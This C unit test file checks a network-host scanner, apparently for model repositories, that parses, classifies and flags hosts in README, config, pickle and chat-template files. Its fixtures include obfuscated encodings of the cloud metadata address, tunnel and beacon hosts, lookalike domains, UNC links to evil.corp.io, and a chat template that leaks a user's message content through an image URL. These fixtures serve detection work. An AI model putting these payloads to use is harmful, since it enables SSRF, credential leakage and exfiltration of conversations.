/* Hosts that texts name: how they are written, what they are known for, and what they are worth where they stand. */
#include "support/cm.h"

#include <stdio.h>

#include "check/network.h"
#include "support/judged.h"
#include "wire/hosts.h"

static void hosts(void **state)
{
	(void)state;
	static const struct {
		const char *text;
		bool is;
		enum gh_host_net net;
		bool odd;
		size_t end;
	} rows[] = {
		{ "huggingface.co/x", true, GH_NET_NAME, false, 14 },
		{ "Host.Example:8080/x", true, GH_NET_SHOWN, false, 17 },
		{ "localhost:80", true, GH_NET_LOCAL, false, 12 },
		{ "127.0.0.1", true, GH_NET_LOCAL, false, 9 },
		{ "10.1.2.3:1", true, GH_NET_PRIVATE, false, 10 },
		{ "172.31.0.1", true, GH_NET_PRIVATE, false, 10 },
		{ "172.32.0.1", true, GH_NET_PUBLIC, false, 10 },
		{ "192.0.2.7", true, GH_NET_SHOWN, false, 9 },
		{ "169.254.169.254/latest", true, GH_NET_METADATA, false, 15 },
		{ "2852039166", true, GH_NET_METADATA, true, 10 },
		{ "0xa9.0xfe.0xa9.0xfe", true, GH_NET_METADATA, true, 19 },
		{ "0251.0376.0251.0376", true, GH_NET_METADATA, true, 19 },
		{ "127.1", true, GH_NET_LOCAL, true, 5 },
		{ "0x7f000001", true, GH_NET_LOCAL, true, 10 },
		{ "45.33.32.156", true, GH_NET_PUBLIC, false, 12 },
		{ "256.1.1.1", false, GH_NET_NAME, false, 0 },
		{ "1.2.3.4.5", false, GH_NET_NAME, false, 0 },
		{ "4294967296", true, GH_NET_PRIVATE, false, 10 },
		{ "[::1]:8", true, GH_NET_LOCAL, false, 5 },
		{ "[2001:db8::1]", true, GH_NET_SHOWN, false, 13 },
		{ "[fd00:ec2::254]", true, GH_NET_METADATA, false, 15 },
		{ "[1:1:1]", false, GH_NET_NAME, false, 0 },
		{ "[2001:db8:0:0:0:0:0:1]", true, GH_NET_SHOWN, false, 22 },
		{ "[::ffff:169.254.169.254]", true, GH_NET_METADATA, false, 24 },
		{ "[::ffff:10.0.0.1]", true, GH_NET_PRIVATE, false, 17 },
		{ "[fe80::1%eth0]", true, GH_NET_PRIVATE, false, 14 },
		{ "[zz]", false, GH_NET_NAME, false, 0 },
		{ "-x", false, GH_NET_NAME, false, 0 },
		{ "", false, GH_NET_NAME, false, 0 },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		struct gh_host h;
		bool is = gh_host_at(gh_span_str(rows[i].text), &h);
		if (is != rows[i].is || (is && (h.net != rows[i].net || h.odd != rows[i].odd || h.end != rows[i].end)))
			fail_msg("%s: %d, net %d, odd %d, end %zu", rows[i].text, is, (int)h.net, h.odd, h.end);
	}
	static const struct {
		const char *name;
		enum gh_host_class class;
	} known[] = {
		{ "huggingface.co", GH_HOST_PLAIN },
		{ "abc.NGROK-free.app", GH_HOST_TUNNEL },
		{ "notngrok.io", GH_HOST_PLAIN },
		{ "x.onion", GH_HOST_HIDDEN },
		{ "webhook.site", GH_HOST_CATCHER },
		{ "a.oastify.com", GH_HOST_BEACON },
		{ "pastebin.com", GH_HOST_PASTE },
		{ "me.duckdns.org", GH_HOST_DYNAMIC },
		{ "bit.ly", GH_HOST_SHORT },
		{ "dns.google", GH_HOST_RESOLVER },
		{ "xn--hggingface-x9b.co", GH_HOST_LOOKALIKE },
		{ "huggingf\xd0\xb0"
		  "ce.co",
		  GH_HOST_LOOKALIKE },
		{ "api.wandb.ai", GH_HOST_REPORTS },
		{ "", GH_HOST_PLAIN },
	};
	for (size_t i = 0; i < GH_ROWS(known); i++)
		if (gh_host_class_of(gh_span_str(known[i].name)) != known[i].class)
			fail_msg("%s: class %d", known[i].name, (int)gh_host_class_of(gh_span_str(known[i].name)));
}

static void contexts(void **state)
{
	(void)state;
	static const struct {
		const char *name, *text, *finds, *nots;
	} rows[] = {
		{ "README.md", "See https://huggingface.co/x and http://pastebin.com/y, mail me@corp.io.\n",
		  "GH-NET-0001", "GH-NET-0003" },
		{ "README.md", "See https://pastebin.com/y for more.\n", "GH-NET-0008", "GH-NET-0003" },
		{ "README.md", "Ask me@corp.io about it, please.\n", "GH-NET-0010", "GH-NET-0003" },
		{ "config.json", "{\"hook\": \"https://abc.ngrok.io/x\"}", "GH-NET-0003", "GH-NET-0008" },
		{ "config.json", "{\"hook\": \"https:\\/\\/webhook.site\\/x\"}", "GH-NET-0003", "GH-NET-0008" },
		{ "config.json", "{\"url\": \"http://0x2d21209c/x\"}", "GH-NET-0005", "GH-NET-0007" },
		{ "config.json", "{\"url\": \"http://169.254.169.254/latest/\"}", "GH-NET-0006", "GH-NET-0007" },
		{ "config.json", "{\"url\": \"http://45.33.32.156/x\"}", "GH-NET-0007", "GH-NET-0006" },
		{ "config.json", "{\"url\": \"http://10.0.0.8/x\"}", "GH-NET-0001", "GH-NET-0007" },
		{ "config.json", "{\"host\": \"45.33.32.156\"}", " 45.33.32.156, 1 time", "GH-NET-0007" },
		{ "a.py", "import os\nHOST = '10.0.0.8'\nPORT = 1\n", " 10.0.0.8, 1 time: of a private",
		  "GH-NET-0007" },
		{ "a.yaml", "server: 45.33.32.156\nport: 5\n", " 45.33.32.156, 1 time", "GH-NET-0007" },
		{ "a.yaml", "hook: https://corp.io/\nversion: \"4.8.1.78\"\n", "GH-NET-0001", "4.8.1.78" },
		{ "requirements.txt", "opencv-python==4.8.1.78\n# https://corp.io/x\nnumpy==1.26\n", "GH-NET-0001",
		  "4.8.1.78" },
		{ "README.md", "Section 4.8.1.78 of https://corp.io/ says so.\n", "GH-NET-0001", "4.8.1.78" },
		{ "config.json", "{\"sink\": \"https://api.wandb.ai\"}", "GH-NET-0009", "GH-NET-0003" },
		{ "config.json", "{\"u\": \"http://huggingf\\u0430\\u0441e.co/x\"}", "GH-NET-0003", "private" },
		{ "config.json", "{\"u\": \"\\u0068ttp://169.254.169.25\\u0034/latest\"}", "GH-NET-0006",
		  "169.254.169.25," },
		{ "a.py", "import os\n# see https://bit.ly/abc\nX = 1\n", "GH-NET-0008", "GH-NET-0003" },
		{ "a.py", "import os\nURL = \"https://bit.ly/abc\"\n", "GH-NET-0003", "GH-NET-0008" },
		{ "README.md", "![x](\\\\evil.corp.io\\share\\x.png)\n", "GH-NET-0011", "GH-NET-0012" },
		{ "README.md", "<img src=\"file://evil.corp.io/share/x.png\">\n", "GH-NET-0011", "GH-NET-0012" },
		{ "README.md", "[x](smb://45.33.32.156/share)\n", "GH-NET-0011", "GH-NET-0012" },
		{ "README.md", "[x](\\\\evil.corp.io@8080\\x)\n", "GH-NET-0011", "GH-NET-0012" },
		{ "README.md", "See \\\\files.corp.io\\models for the rest.\n", "GH-NET-0012", "GH-NET-0011" },
		{ "README.md", "[x](file:///home/me/x.png) and https://corp.io/\n", "GH-NET-0012", "GH-NET-0011" },
		{ "config.json", "{\"icon\": \"\\\\\\\\evil.corp.io\\\\share\\\\x.ico\"}", "GH-NET-0011",
		  "GH-NET-0012" },
		{ "README.md", "$a \\\\ b.c \\\\ \\hline \\\\alpha\\beta$ of https://corp.io/\n", "GH-NET-0001",
		  "GH-NET-001" },
		{ "chat_template.jinja",
		  "{% for m in messages %}{{ m.content }}{% endfor %}![x](https://h.io/p?q={{ messages[0].content }})",
		  "GH-NET-0004", "GH-NET-0003" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		static struct gh_test_judged j;
		gh_test_judge(&j, gh_span_str(rows[i].text), rows[i].name);
		if (strstr(j.all, rows[i].finds) == NULL || strstr(j.all, rows[i].nots) != NULL)
			fail_msg("%s: %s expected, found:\n%s", rows[i].text, rows[i].finds, j.all);
	}
}

/* In a program of a pickle, "M@.MA." are numbers; an address with its scheme is one there, too. */
static void binary(void **state)
{
	(void)state;
	static const char text[] = "\x80\x02]q\x00(M@.MA.abM\x01\x02X\x15\x00\x00\x00https://corp.io/a/b.cdM@.MAq\x01"
				   "a@b.cdefg.hij10.1.2.3e.";
	static struct gh_test_judged j;
	gh_test_judge(&j, (struct gh_span){ (const uint8_t *)text, sizeof text - 1 }, "a.pkl");
	if (strstr(j.all, "GH-NET-0010") != NULL || strstr(j.all, "10.1.2.3") != NULL ||
	    strstr(j.all, " corp.io, 1 time") == NULL)
		fail_msg("%s", j.all);
}

/* A file with hundreds of hosts: some are listed, the rest counted. */
static void drowned(void **state)
{
	(void)state;
	static char text[40000];
	static struct gh_test_judged j;
	text[0] = '\0';
	for (unsigned i = 0; i < 400; i++)
		(void)snprintf(text + strlen(text), 64, "see https://h%u.corp.io/ and https://h%u.corp.io/x\n", i, i);
	gh_test_judge(&j, gh_span_str(text), "README.md");
	unsigned listed = 0;
	for (const char *p = j.all; (p = strstr(p, "GH-NET-0001")) != NULL; p++)
		listed++;
	assert_int_equal(listed, 20);
	assert_non_null(strstr(j.all, "h0.corp.io, 2 times"));
	assert_non_null(strstr(j.all, "GH-NET-0002"));
	assert_non_null(strstr(j.all, "380 more hosts"));
	assert_string_equal(j.ids, "");
}

int main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(hosts), cmocka_unit_test(contexts),
					    cmocka_unit_test(binary), cmocka_unit_test(drowned) };
	assert_string_equal(gh_check_network.name, "network");
	return cmocka_run_group_tests_name("network", tests, NULL, NULL);
}
